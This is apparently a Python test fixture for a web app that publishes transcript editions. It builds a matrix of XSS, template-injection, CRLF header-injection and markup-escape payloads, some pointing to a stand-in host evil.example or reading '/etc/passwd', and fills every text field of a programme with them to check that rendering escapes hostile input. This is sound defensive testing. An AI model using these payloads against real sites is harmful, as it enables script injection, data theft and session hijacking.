"""Texts that try to be more than text, and an edition that is full of them."""

from __future__ import annotations

import dataclasses
from collections.abc import Callable
from itertools import product

from media.records import FACTS
from tests.webapp.editions import MADE_AT, approved, programme_text, summary_document
from transcribe.records import Claim, Link, Linking, Part, PartKind, Segment, Verdict, Word, content_sha256
from webapp.edition.records import EditionSound
from webapp.edition.render import Approved

CORES = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<a href=javascript:alert(1)>x</a>",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<math><mtext><style><img src=x onerror=alert(1)></style></mtext></math>",
    "<style>*{display:none}</style>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content=0;url=//evil.example>",
    "<base href=//evil.example/>",
    "<form action=//evil.example><input name=q></form>",
    "<object data=data:text/html,<script>alert(1)</script>>",
    "<embed src=//evil.example/x.swf>",
    "<template><script>alert(1)</script></template>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "{{7*7}}{{config}}",
    "{% include '/etc/passwd' %}",
    "${7*7}",
    "%(words)s%(num)s%s",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;",
    "\u202e<script>alert(1)</script>",
    "<\u200bscript>alert(1)</script>",
    "＜script＞alert(1)＜/script＞",
    "-->",
    "00:00.000 --> 00:01.000",
    "]]>",
)
WRAPPINGS: tuple[Callable[[str], str], ...] = (
    lambda core: core,
    lambda core: f'">{core}',
    lambda core: f"'>{core}",
    lambda core: f"</span></p></div>{core}",
    lambda core: f"</title></textarea></script></style>{core}",
    lambda core: f'" onmouseover="alert(1)" x="{core}',
    lambda core: f"' autofocus onfocus='alert(1)' x='{core}",
    lambda core: f"--!>{core}<!--",
    lambda core: core.upper(),
    lambda core: f"a\r\nSet-Cookie: x=1\r\n\r\n{core}",
)
PAYLOADS = tuple(wrap(core) for core, wrap in product(CORES, WRAPPINGS))
PLAIN = tuple(f"harmless{number}" for number, _ in enumerate(PAYLOADS))


def filled(texts: tuple[str, ...], sound: EditionSound | None) -> Approved:
    """Return a programme with one of the texts wherever a text can stand; the same shape for any texts."""
    made = approved("p1", texts[0], summary="x", sound=sound)
    facts = {name: texts[number % len(texts)] for number, name in enumerate(FACTS)}
    programme = dataclasses.replace(made.programme, **{**facts, "language": "kk", "published": "2026-01-01"})
    segments = tuple(
        Segment(
            f"s{number}",
            number * 1000,
            number * 1000 + 900,
            (Word(text, number * 1000, number * 1000 + 900), Word("сөз", number * 1000 + 900, number * 1000 + 900)),
            speaker=f"{number} {text}",
        )
        for number, text in enumerate(texts)
    )
    text = programme_text("p1", "")
    transcript = dataclasses.replace(text.transcript, segments=segments, sha256=content_sha256(segments))
    provenance = dataclasses.replace(transcript.provenance, engine=texts[1], engine_version=texts[2], model="base")
    text = dataclasses.replace(
        text, transcript=dataclasses.replace(transcript, provenance=provenance), segments=segments
    )
    summary = dataclasses.replace(summary_document("p1", f"S {texts[3]}"), author=texts[4])
    return Approved(
        programme, summary, text, _linking(summary.text, text.sha256, segments, texts), sound, "2026-01-01T00:00:00Z"
    )


def _linking(summary: str, text_sha256: str, segments: tuple[Segment, ...], texts: tuple[str, ...]) -> Linking:
    claim = Claim("c", 0, summary, 0, len(summary))
    parts = tuple(Part(PartKind.NAME, text, 0, 1, Verdict.NOT_FOUND) for text in texts[5:9])
    link = Link("l", claim, Verdict.PARTLY, 0.5, (segments[0].span,), (), "old words", parts)
    return Linking("k", "p1", text_sha256, "d-p1", ("anchors",), (link,), (), MADE_AT)
